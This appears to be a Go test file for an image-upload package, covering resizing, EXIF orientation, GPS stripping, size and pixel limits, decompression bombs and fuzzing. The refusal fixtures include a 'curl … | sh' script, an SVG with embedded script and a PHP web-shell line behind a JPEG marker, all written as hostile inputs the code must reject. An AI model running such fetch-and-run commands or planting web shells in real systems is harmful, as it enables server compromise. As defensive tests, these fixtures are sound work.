package media

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/image/draw"

	"dateline"
)

// photoImage is a w × h picture with smooth gradients and a little noise,
// which compresses about as a photograph does.
func photoImage(w, h int) *image.RGBA {
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	seed := uint32(1)
	for y := range h {
		for x := range w {
			seed = seed*1664525 + 1013904223
			n := uint8(seed >> 29)
			i := m.PixOffset(x, y)
			m.Pix[i] = uint8(x*248/w) + n
			m.Pix[i+1] = uint8(y*248/h) + n
			m.Pix[i+2] = uint8((x+y)*127/(w+h)) + 64
			m.Pix[i+3] = 0xff
		}
	}
	return m
}

func jpegOf(t testing.TB, m image.Image) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, m, &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func pngOf(t testing.TB, m image.Image) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := png.Encode(&buf, m); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// withExif inserts an APP1 Exif segment holding tiff right after the SOI
// marker of a JPEG.
func withExif(j, tiff []byte) []byte {
	seg := append([]byte("Exif\x00\x00"), tiff...)
	out := []byte{0xff, 0xd8, 0xff, 0xe1, byte((len(seg) + 2) >> 8), byte(len(seg) + 2)}
	out = append(out, seg...)
	return append(out, j[2:]...)
}

// gpsRational is the latitude 52° 31' 12.34" as the test's GPS IFD stores
// it; no stored file may contain these bytes.
var gpsRational = []uint32{52, 1, 31, 1, 1234, 100}

type byteOrder interface {
	binary.ByteOrder
	binary.AppendByteOrder
}

// exifTIFF builds the TIFF structure of an Exif segment: IFD0 with the
// Orientation tag (when orientation > 0) and, when gps is set, a GPSInfo
// pointer to a GPS IFD with a latitude.
func exifTIFF(bo byteOrder, orientation int, gps bool) []byte {
	t := []byte("II*\x00\x08\x00\x00\x00")
	if bo == binary.BigEndian {
		t = []byte("MM\x00*\x00\x00\x00\x08")
	}
	type entry struct {
		tag, typ uint16
		n, v     uint32
	}
	var ifd0 []entry
	if orientation > 0 {
		v := uint32(orientation)
		if bo == binary.BigEndian {
			v <<= 16 // a SHORT sits in the first two bytes of the field
		}
		ifd0 = append(ifd0, entry{0x0112, 3, 1, v})
	}
	// The GPS IFD follows IFD0 (2 + 12n + 4 bytes); its latitude follows
	// it (2 + 2×12 + 4 bytes).
	gpsIFD := uint32(8 + 2 + 12*(len(ifd0)+1) + 4)
	if gps {
		ifd0 = append(ifd0, entry{0x8825, 4, 1, gpsIFD})
	}
	put := func(es []entry) {
		t = bo.AppendUint16(t, uint16(len(es)))
		for _, e := range es {
			t = bo.AppendUint16(t, e.tag)
			t = bo.AppendUint16(t, e.typ)
			t = bo.AppendUint32(t, e.n)
			t = bo.AppendUint32(t, e.v)
		}
		t = bo.AppendUint32(t, 0) // no next IFD
	}
	put(ifd0)
	if gps {
		north := uint32('N') << 24
		if bo == binary.LittleEndian {
			north = 'N'
		}
		put([]entry{{0x0001, 2, 2, north}, {0x0002, 5, 3, gpsIFD + 2 + 2*12 + 4}})
		for _, v := range gpsRational {
			t = bo.AppendUint32(t, v)
		}
	}
	return t
}

// storedFiles lists the files under root, as slash paths relative to it.
func storedFiles(t *testing.T, root string) []string {
	t.Helper()
	var files []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(root, p)
			files = append(files, filepath.ToSlash(rel))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(files)
	return files
}

// decodeStored decodes the stored file at p, checking that its content is
// the format its name says.
func decodeStored(t *testing.T, root, p string) image.Image {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(p)))
	if err != nil {
		t.Fatal(err)
	}
	var m image.Image
	switch filepath.Ext(p) {
	case ".jpg":
		m, err = jpeg.Decode(bytes.NewReader(b))
	case ".png":
		m, err = png.Decode(bytes.NewReader(b))
	default:
		t.Fatalf("stored %s", p)
	}
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	return m
}

func prepare(t *testing.T, data []byte) (*dateline.Photo, string) {
	t.Helper()
	root := t.TempDir()
	p, err := Prepare(context.Background(), Dir{Root: root}, "uploads/2026/11", bytes.NewReader(data), DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	return p, root
}

// checkPhoto checks that p names its files as Prepare promises, that
// exactly those are stored, and that each has its stated size.
func checkPhoto(t *testing.T, root string, p *dateline.Photo, ext string, w, h int, widths []int) {
	t.Helper()
	if p.Width != w || p.Height != h || !slices.Equal(p.Widths, widths) {
		t.Fatalf("photo %d × %d, widths %v; want %d × %d, widths %v", p.Width, p.Height, p.Widths, w, h, widths)
	}
	dir, name := filepath.Split(p.Path)
	if dir != "uploads/2026/11/" || len(name) != 16+len(ext) || !strings.HasSuffix(name, ext) {
		t.Fatalf("path %q", p.Path)
	}
	want := []string{p.Path}
	for _, rw := range widths {
		want = append(want, p.Rendition(rw))
	}
	slices.Sort(want)
	if got := storedFiles(t, root); !slices.Equal(got, want) {
		t.Fatalf("stored %v, want %v", got, want)
	}
	for _, rw := range append([]int{w}, widths...) {
		m := decodeStored(t, root, p.Rendition(rw))
		rh := (h*rw + w/2) / w
		if b := m.Bounds(); b.Dx() != rw || b.Dy() != rh {
			t.Errorf("%s is %v, want %d × %d", p.Rendition(rw), b.Size(), rw, rh)
		}
	}
}

func TestPrepareJPEG(t *testing.T) {
	data := jpegOf(t, photoImage(1000, 750))
	p, root := prepare(t, data)
	checkPhoto(t, root, p, ".jpg", 1000, 750, []int{320, 640, 960})

	// The same upload again makes the same files.
	before := map[string][]byte{}
	for _, f := range storedFiles(t, root) {
		before[f], _ = os.ReadFile(filepath.Join(root, f))
	}
	p2, err := Prepare(context.Background(), Dir{Root: root}, "uploads/2026/11", bytes.NewReader(data), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if p2.Path != p.Path || !slices.Equal(p2.Widths, p.Widths) {
		t.Errorf("again: %+v, first %+v", p2, p)
	}
	for _, f := range storedFiles(t, root) {
		if b, _ := os.ReadFile(filepath.Join(root, f)); !bytes.Equal(b, before[f]) {
			t.Errorf("%s changed", f)
		}
	}
}

func TestPrepareWide(t *testing.T) {
	p, root := prepare(t, jpegOf(t, photoImage(4000, 600)))
	checkPhoto(t, root, p, ".jpg", 4000, 600, RenditionWidths)
	if p.Rendition(1920) != strings.TrimSuffix(p.Path, ".jpg")+"-1920.jpg" {
		t.Errorf("rendition %s", p.Rendition(1920))
	}
	// A rendition is the picture, not a crop of it: the left edge is dark
	// red, the right edge bright red.
	m := decodeStored(t, root, p.Rendition(320))
	l, _, _, _ := m.At(2, 20).RGBA()
	r, _, _, _ := m.At(317, 20).RGBA()
	if l>>8 > 40 || r>>8 < 200 {
		t.Errorf("rendition's edges: red %d and %d", l>>8, r>>8)
	}
}

func TestPrepareGrayJPEG(t *testing.T) {
	g := image.NewGray(image.Rect(0, 0, 400, 300))
	for i := range g.Pix {
		g.Pix[i] = uint8(i)
	}
	p, root := prepare(t, jpegOf(t, g))
	checkPhoto(t, root, p, ".jpg", 400, 300, []int{320})
}

func TestPreparePNG(t *testing.T) {
	// Left half opaque, right half half-transparent.
	m := image.NewNRGBA(image.Rect(0, 0, 700, 300))
	for y := range 300 {
		for x := range 700 {
			c := color.NRGBA{200, 30, 30, 255}
			if x >= 350 {
				c = color.NRGBA{30, 30, 200, 128}
			}
			m.SetNRGBA(x, y, c)
		}
	}
	p, root := prepare(t, pngOf(t, m))
	checkPhoto(t, root, p, ".png", 700, 300, []int{320, 640})
	r := decodeStored(t, root, p.Rendition(320))
	if _, _, _, a := r.At(10, 100).RGBA(); a != 0xffff {
		t.Errorf("opaque half: alpha %#x", a)
	}
	if _, _, b, a := r.At(310, 100).RGBA(); a>>8 < 120 || a>>8 > 136 || b < a/2 {
		t.Errorf("transparent half: blue %#x alpha %#x", b, a)
	}

	// A paletted PNG is kept as PNG; its renditions are scaled too.
	pal := image.NewPaletted(image.Rect(0, 0, 500, 500), color.Palette{color.Black, color.White})
	for i := range pal.Pix {
		pal.Pix[i] = uint8(i / 500 % 2)
	}
	p, root = prepare(t, pngOf(t, pal))
	checkPhoto(t, root, p, ".png", 500, 500, []int{320})
}

func TestPrepareWebP(t *testing.T) {
	// See testdata/mkwebp.py.
	for _, tc := range []struct {
		file string
		ext  string
		w, h int
	}{
		{"photo.webp", ".jpg", 64, 48}, // lossy, opaque
		{"alpha.webp", ".png", 32, 24}, // lossless, half transparent
	} {
		data, err := os.ReadFile(filepath.Join("testdata", tc.file))
		if err != nil {
			t.Fatal(err)
		}
		p, root := prepare(t, data)
		checkPhoto(t, root, p, tc.ext, tc.w, tc.h, nil)
		m := decodeStored(t, root, p.Path)
		if tc.ext == ".png" {
			r, _, _, a := m.At(2, 2).RGBA()
			_, _, b, a2 := m.At(30, 2).RGBA()
			if r != 0xffff || a != 0xffff || a2>>8 != 128 || b != a2 {
				t.Errorf("%s: left %#x/%#x, right %#x/%#x", tc.file, r, a, b, a2)
			}
		}
	}
}

// TestPrepareOrientation stores a picture with red, green, blue and yellow
// quarters under each EXIF orientation, in both byte orders, and checks
// the colours of the quarters as the EXIF specification says a viewer
// shows them.
func TestPrepareOrientation(t *testing.T) {
	stored := image.NewRGBA(image.Rect(0, 0, 80, 40))
	colors := map[string]color.RGBA{
		"red": {255, 0, 0, 255}, "green": {0, 255, 0, 255},
		"blue": {0, 0, 255, 255}, "yellow": {255, 255, 0, 255},
	}
	for y := range 40 {
		for x := range 80 {
			c := [2][2]string{{"red", "green"}, {"blue", "yellow"}}[y/20][x/40]
			stored.SetRGBA(x, y, colors[c])
		}
	}
	// The quarters as shown: top left, top right, bottom left, bottom
	// right. The stored picture is red, green / blue, yellow.
	shown := map[int][4]string{
		1: {"red", "green", "blue", "yellow"},
		2: {"green", "red", "yellow", "blue"},
		3: {"yellow", "blue", "green", "red"},
		4: {"blue", "yellow", "red", "green"},
		5: {"red", "blue", "green", "yellow"},
		6: {"blue", "red", "yellow", "green"},
		7: {"yellow", "green", "blue", "red"},
		8: {"green", "yellow", "red", "blue"},
	}
	plain := jpegOf(t, stored)
	for o := 1; o <= 8; o++ {
		for _, bo := range []byteOrder{binary.LittleEndian, binary.BigEndian} {
			p, root := prepare(t, withExif(plain, exifTIFF(bo, o, false)))
			w, h := 80, 40
			if o >= 5 {
				w, h = 40, 80
			}
			if p.Width != w || p.Height != h {
				t.Fatalf("orientation %d (%v): %d × %d", o, bo, p.Width, p.Height)
			}
			m := decodeStored(t, root, p.Path)
			for i, pt := range []image.Point{{w / 4, h / 4}, {3 * w / 4, h / 4}, {w / 4, 3 * h / 4}, {3 * w / 4, 3 * h / 4}} {
				want := colors[shown[o][i]]
				r, g, b, _ := m.At(pt.X, pt.Y).RGBA()
				if absDiff(r>>8, want.R) > 40 || absDiff(g>>8, want.G) > 40 || absDiff(b>>8, want.B) > 40 {
					t.Errorf("orientation %d (%v): quarter %d is %d,%d,%d, want %s", o, bo, i, r>>8, g>>8, b>>8, shown[o][i])
				}
			}
		}
	}
}

func absDiff(a uint32, b uint8) uint32 {
	if a > uint32(b) {
		return a - uint32(b)
	}
	return uint32(b) - a
}

// TestPrepareStripsExif uploads a photo that says where it was taken and
// that it should be turned a quarter clockwise.
func TestPrepareStripsExif(t *testing.T) {
	for _, bo := range []byteOrder{binary.LittleEndian, binary.BigEndian} {
		tiff := exifTIFF(bo, 6, true)
		var lat []byte
		for _, v := range gpsRational {
			lat = bo.AppendUint32(lat, v)
		}
		data := withExif(jpegOf(t, photoImage(1200, 800)), tiff)
		if !bytes.Contains(data, []byte("Exif")) || !bytes.Contains(data, lat) {
			t.Fatal("the upload lacks its EXIF")
		}
		p, root := prepare(t, data)
		checkPhoto(t, root, p, ".jpg", 800, 1200, []int{320, 640})
		for _, f := range storedFiles(t, root) {
			b, _ := os.ReadFile(filepath.Join(root, f))
			if bytes.Contains(b, []byte("Exif")) || bytes.Contains(b, lat) || bytes.Contains(b, []byte{0xff, 0xe1}) {
				t.Errorf("%s keeps EXIF", f)
			}
		}
	}
}

func TestJPEGOrientation(t *testing.T) {
	j := jpegOf(t, image.NewGray(image.Rect(0, 0, 8, 8)))
	le := exifTIFF(binary.LittleEndian, 6, true)
	be := exifTIFF(binary.BigEndian, 8, true)
	for _, tc := range []struct {
		name string
		data []byte
		want int
	}{
		{"none", j, 1},
		{"little-endian", withExif(j, le), 6},
		{"big-endian", withExif(j, be), 8},
		{"no orientation tag", withExif(j, exifTIFF(binary.LittleEndian, 0, true)), 1},
		{"orientation 9", withExif(j, exifTIFF(binary.LittleEndian, 9, false)), 1},
		{"orientation 0", withExif(j, exifTIFF(binary.BigEndian, 0, false)), 1},
		{"fill bytes", append([]byte{0xff, 0xd8, 0xff}, withExif(j, le)[2:]...), 6},
		{"after APP0", append([]byte{0xff, 0xd8, 0xff, 0xe0, 0, 4, 'J', 'F'}, withExif(j, le)[2:]...), 6},
		{"XMP, then Exif", append(app1("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta/>"), withExif(j, le)[2:]...), 6},
		{"XMP only", append(app1("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta/>"), j[2:]...), 1},
		{"Exif after the image data", append(j[:len(j)-2:len(j)-2], withExif([]byte{0xff, 0xd8}, le)[2:]...), 1},
		{"short TIFF", withExif(j, le[:6]), 1},
		{"bad byte order", withExif(j, append([]byte("IM"), le[2:]...)), 1},
		{"IFD beyond the end", withExif(j, append(le[:4:4], 0xff, 0xff, 0xff, 0x7f)), 1},
		{"IFD inside the header", withExif(j, append(le[:4:4], 2, 0, 0, 0)), 1},
		{"entries beyond the end", withExif(j, append(le[:8:8], 0xff, 0xff)), 1},
		{"segment longer than the file", []byte{0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff, 'E', 'x'}, 1},
		{"segment length 0", []byte{0xff, 0xd8, 0xff, 0xe1, 0, 0, 'E', 'x'}, 1},
		{"not a JPEG", le, 1},
		{"empty", nil, 1},
	} {
		if got := jpegOrientation(tc.data); got != tc.want {
			t.Errorf("%s: %d, want %d", tc.name, got, tc.want)
		}
	}
	// Orientation given as a LONG, and a SHORT with a count of 2.
	long := []byte("II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x04\x00\x01\x00\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00")
	if got := tiffOrientation(long); got != 3 {
		t.Errorf("LONG: %d", got)
	}
	long[12] = 3 // SHORT
	long[14] = 2 // count 2
	if got := tiffOrientation(long); got != 1 {
		t.Errorf("SHORT × 2: %d", got)
	}
	// Every prefix of a good segment is read without panicking.
	for n := range len(le) {
		if got := tiffOrientation(le[:n]); got != 1 && got != 6 {
			t.Errorf("prefix %d: %d", n, got)
		}
	}
}

// app1 is SOI followed by an APP1 segment holding payload.
func app1(payload string) []byte {
	n := len(payload) + 2
	return append([]byte{0xff, 0xd8, 0xff, 0xe1, byte(n >> 8), byte(n)}, payload...)
}

// pngHeader is a PNG whose IHDR says w × h RGB pixels, followed by a tiny
// IDAT and IEND: enough for DecodeConfig, which is all Prepare may read of
// a picture too large.
func pngHeader(w, h uint32) []byte {
	chunk := func(typ string, data []byte) []byte {
		c := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		c = append(c, typ...)
		c = append(c, data...)
		return binary.BigEndian.AppendUint32(c, crc32.ChecksumIEEE(c[4:]))
	}
	ihdr := binary.BigEndian.AppendUint32(nil, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 2, 0, 0, 0) // 8-bit RGB, not interlaced
	b := []byte("\x89PNG\r\n\x1a\n")
	b = append(b, chunk("IHDR", ihdr)...)
	b = append(b, chunk("IDAT", []byte{0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1})...)
	return append(b, chunk("IEND", nil)...)
}

// jpegSized is a small JPEG whose SOF0 marker claims w × h.
func jpegSized(t testing.TB, w, h uint16) []byte {
	j := jpegOf(t, image.NewGray(image.Rect(0, 0, 16, 16)))
	i := bytes.Index(j, []byte{0xff, 0xc0})
	if i < 0 {
		t.Fatal("no SOF0")
	}
	binary.BigEndian.PutUint16(j[i+5:], h)
	binary.BigEndian.PutUint16(j[i+7:], w)
	return j
}

// webpCanvas is a WebP whose VP8X chunk claims a w × h canvas.
func webpCanvas(w, h uint32) []byte {
	b := []byte("RIFF\x16\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00")
	b = append(b, byte(w-1), byte((w-1)>>8), byte((w-1)>>16), byte(h-1), byte((h-1)>>8), byte((h-1)>>16))
	return b
}

type badUpload struct {
	name string
	data []byte
	lim  Limits
	code string
	msg  string // a part of the message
}

func badUploads(t testing.TB) []badUpload {
	good := jpegOf(t, photoImage(300, 200))
	goodPNG := pngOf(t, photoImage(300, 200))
	webpPhoto, err := os.ReadFile("testdata/photo.webp")
	if err != nil {
		t.Fatal(err)
	}
	var g bytes.Buffer
	gif.Encode(&g, image.NewPaletted(image.Rect(0, 0, 4, 4), color.Palette{color.Black}), nil)
	corruptPNG := slices.Clone(goodPNG)
	corruptPNG[len(corruptPNG)/2] ^= 0xff
	const damaged = "The image is damaged or incomplete"
	const notImage = "This is not a JPEG, PNG or WebP image."
	return []badUpload{
		{"empty", nil, Limits{}, dateline.EINVALID, "The file is empty."},
		{"over the limit", good, Limits{MaxBytes: 1000}, dateline.ETOOLARGE, "The file is larger than 1000 bytes"},
		{"over 1.5 MB", bytes.Repeat(good, 300)[:3<<19+1], Limits{MaxBytes: 3 << 19}, dateline.ETOOLARGE, "larger than 1.5 MB"},
		{"script named x.jpg", []byte("#!/bin/sh\ncurl http://x.example/a | sh\n"), Limits{}, dateline.EUNPROCESSABLE, notImage},
		{"GIF", g.Bytes(), Limits{}, dateline.EUNPROCESSABLE, notImage},
		{"SVG", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), Limits{}, dateline.EUNPROCESSABLE, notImage},
		{"HTML", []byte("<!DOCTYPE html><html><body>hi</body></html>"), Limits{}, dateline.EUNPROCESSABLE, notImage},
		{"PHP behind a JPEG marker", []byte("\xff\xd8\xff\xe0<?php system($_GET['c']); ?>"), Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"RIFF but not WebP", []byte("RIFF\x04\x00\x00\x00WAVE"), Limits{}, dateline.EUNPROCESSABLE, notImage},
		{"JPEG cut in its header", good[:300], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"JPEG cut in half", good[:len(good)/2], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"JPEG without its last 100 bytes", good[:len(good)-100], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"JPEG without EOI", good[:len(good)-2], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"PNG cut in half", goodPNG[:len(goodPNG)/2], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"PNG without IEND", goodPNG[:len(goodPNG)-12], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"PNG with a bad byte", corruptPNG, Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"WebP cut in half", webpPhoto[:len(webpPhoto)/2], Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"PNG of 50000 × 50000", pngHeader(50000, 50000), Limits{}, dateline.EUNPROCESSABLE, "50000 × 50000 pixels is more than the 40 megapixels allowed"},
		{"PNG of 12001 × 10", pngHeader(12001, 10), Limits{}, dateline.EUNPROCESSABLE, "12001 × 10 pixels is more than the 12000 pixels allowed on a side"},
		{"PNG of 0 × 0", pngHeader(0, 0), Limits{}, dateline.EUNPROCESSABLE, damaged},
		{"JPEG of 60000 × 60000", jpegSized(t, 60000, 60000), Limits{}, dateline.EUNPROCESSABLE, "60000 × 60000 pixels is more"},
		{"WebP of 16384 × 16384", webpCanvas(16384, 16384), Limits{}, dateline.EUNPROCESSABLE, "16384 × 16384 pixels is more"},
		{"300 × 200 over 0.025 megapixels", good, Limits{MaxPixels: 25_000}, dateline.EUNPROCESSABLE, "300 × 200 pixels is more than the 0.025 megapixels allowed"},
	}
}

func TestPrepareRefuses(t *testing.T) {
	for _, tc := range badUploads(t) {
		root := t.TempDir()
		p, err := Prepare(context.Background(), Dir{Root: root}, "uploads", bytes.NewReader(tc.data), tc.lim)
		if p != nil || dateline.ErrorCode(err) != tc.code || !strings.Contains(dateline.ErrorMessage(err), tc.msg) {
			t.Errorf("%s: %v, %v; want %s %q", tc.name, p, err, tc.code, tc.msg)
		}
		if files := storedFiles(t, root); len(files) > 0 {
			t.Errorf("%s: stored %v", tc.name, files)
		}
	}
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// TestPrepareEndless checks that Prepare stops reading at the limit.
func TestPrepareEndless(t *testing.T) {
	_, err := Prepare(context.Background(), Dir{Root: t.TempDir()}, "", zeros{}, Limits{})
	if dateline.ErrorCode(err) != dateline.ETOOLARGE || dateline.ErrorMessage(err) != "The file is larger than 20 MB; please send a smaller image." {
		t.Errorf("endless upload: %v", err)
	}
}

func TestPrepareBomb(t *testing.T) {
	bomb := pngHeader(50000, 50000)
	m := Dir{Root: t.TempDir()}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	_, err := Prepare(context.Background(), m, "uploads", bytes.NewReader(bomb), Limits{})
	took := time.Since(start)
	runtime.ReadMemStats(&after)
	if dateline.ErrorCode(err) != dateline.EUNPROCESSABLE {
		t.Fatal(err)
	}
	alloc := after.TotalAlloc - before.TotalAlloc
	t.Logf("refused in %v, %d bytes allocated", took, alloc)
	if took > 100*time.Millisecond || alloc > 50<<20 {
		t.Errorf("refused in %v, %d bytes allocated", took, alloc)
	}
	allocs := testing.AllocsPerRun(10, func() {
		Prepare(context.Background(), m, "uploads", bytes.NewReader(bomb), Limits{})
	})
	if allocs > 100 {
		t.Errorf("%v allocations per refusal", allocs)
	}
}

// memMedia keeps files in memory. It fails every Put after the first
// failAfter when failAfter > 0.
type memMedia struct {
	mu        sync.Mutex
	files     map[string][]byte
	failAfter int
}

func (m *memMedia) Put(ctx context.Context, p string, r io.Reader) error {
	if !dateline.ValidMediaPath(p) {
		return dateline.Errorf(dateline.EINVALID, "bad path")
	}
	b, err := io.ReadAll(r)
	if err != nil {
		return err
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.failAfter > 0 && len(m.files) >= m.failAfter {
		return errors.New("disk full")
	}
	if m.files == nil {
		m.files = map[string][]byte{}
	}
	m.files[p] = b
	return nil
}

func (m *memMedia) Get(ctx context.Context, p string) (dateline.MediaFile, error) {
	return nil, dateline.Errorf(dateline.ENOTFOUND, "No such file.")
}

func (m *memMedia) Exists(ctx context.Context, p string) (bool, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	_, ok := m.files[p]
	return ok, nil
}

func TestPreparePutFails(t *testing.T) {
	m := &memMedia{failAfter: 2}
	data := jpegOf(t, photoImage(1000, 750))
	p, err := Prepare(context.Background(), m, "u", bytes.NewReader(data), Limits{})
	if err == nil || p != nil || dateline.ErrorCode(err) != dateline.EINTERNAL {
		t.Fatalf("%v, %v", p, err)
	}
	for f := range m.files {
		if strings.Count(f, "-") != 1 {
			t.Errorf("the full-size file %s was stored", f)
		}
	}

	_, err = Prepare(context.Background(), &memMedia{}, "../u", bytes.NewReader(data), Limits{})
	if dateline.ErrorCode(err) != dateline.EINVALID {
		t.Errorf("dir ../u: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	m = &memMedia{}
	if _, err := Prepare(ctx, m, "u", bytes.NewReader(data), Limits{}); !errors.Is(err, context.Canceled) || len(m.files) > 0 {
		t.Errorf("cancelled: %v, stored %d", err, len(m.files))
	}
}

func FuzzPrepare(f *testing.F) {
	lim := Limits{MaxBytes: 64 << 10, MaxPixels: 1 << 18, MaxSide: 2048}
	// Small inputs only: the fuzzer spends long minimizing big ones.
	for _, tc := range badUploads(f) {
		if len(tc.data) <= 4<<10 {
			f.Add(tc.data)
		}
	}
	j := jpegOf(f, photoImage(48, 32))
	f.Add(j)
	f.Add(j[:len(j)/2])
	f.Add(withExif(j, exifTIFF(binary.LittleEndian, 6, true)))
	f.Add(withExif(j, exifTIFF(binary.BigEndian, 7, false)))
	f.Add(pngOf(f, photoImage(40, 30)))
	f.Add(pngOf(f, image.NewNRGBA(image.Rect(0, 0, 5, 3))))
	for _, name := range []string{"photo.webp", "alpha.webp"} {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		m := &memMedia{}
		p, err := Prepare(context.Background(), m, "f", bytes.NewReader(data), lim)
		if err != nil {
			switch dateline.ErrorCode(err) {
			case dateline.EINVALID, dateline.ETOOLARGE, dateline.EUNPROCESSABLE:
			default:
				t.Fatalf("error %v", err)
			}
			if p != nil || len(m.files) > 0 {
				t.Fatalf("stored %d files with error %v", len(m.files), err)
			}
			return
		}
		if p.Width <= 0 || p.Height <= 0 || int64(p.Width)*int64(p.Height) > lim.MaxPixels || len(m.files) != 1+len(p.Widths) {
			t.Fatalf("photo %+v, %d files", p, len(m.files))
		}
		for _, w := range append([]int{p.Width}, p.Widths...) {
			if _, ok := m.files[p.Rendition(w)]; !ok {
				t.Fatalf("no file %s", p.Rendition(w))
			}
		}
	})
}

func FuzzJPEGOrientation(f *testing.F) {
	j := jpegOf(f, image.NewGray(image.Rect(0, 0, 8, 8)))
	f.Add(withExif(j, exifTIFF(binary.LittleEndian, 6, true)))
	f.Add(withExif(j, exifTIFF(binary.BigEndian, 3, true)))
	f.Fuzz(func(t *testing.T, data []byte) {
		if o := jpegOrientation(data); o < 1 || o > 8 {
			t.Fatal(o)
		}
	})
}

func BenchmarkPrepare(b *testing.B) {
	data := jpegOf(b, photoImage(4000, 3000))
	m := Dir{Root: b.TempDir()}
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Prepare(context.Background(), m, "bench", bytes.NewReader(data), Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}

// TestCatmullRomBands compares the banded two-pass drawing with one call
// to x/image/draw: they differ only by rounding between the passes.
func TestCatmullRomBands(t *testing.T) {
	src := photoImage(700, 1000)
	for _, size := range []image.Point{{400, 571}, {699, 999}, {350, 500}, {65, 129}} {
		got := catmullRom(src, size.X, size.Y)
		want := image.NewRGBA(image.Rect(0, 0, size.X, size.Y))
		draw.CatmullRom.Scale(want, want.Rect, src, src.Rect, draw.Src, nil)
		worst, sum := 0, 0
		for i := range got.Pix {
			d := int(got.Pix[i]) - int(want.Pix[i])
			worst = max(worst, d, -d)
			sum += max(d, -d)
		}
		t.Logf("%v: worst difference %d, mean %.3f", size, worst, float64(sum)/float64(len(got.Pix)))
		if worst > 2 {
			t.Errorf("%v: worst difference %d", size, worst)
		}
	}
}

// BenchmarkOrientYCbCr turns a 39.9-megapixel camera image a quarter.
func BenchmarkOrientYCbCr(b *testing.B) {
	m := image.NewYCbCr(image.Rect(0, 0, 7296, 5472), image.YCbCrSubsampleRatio420)
	for b.Loop() {
		orient(m, 6)
	}
}
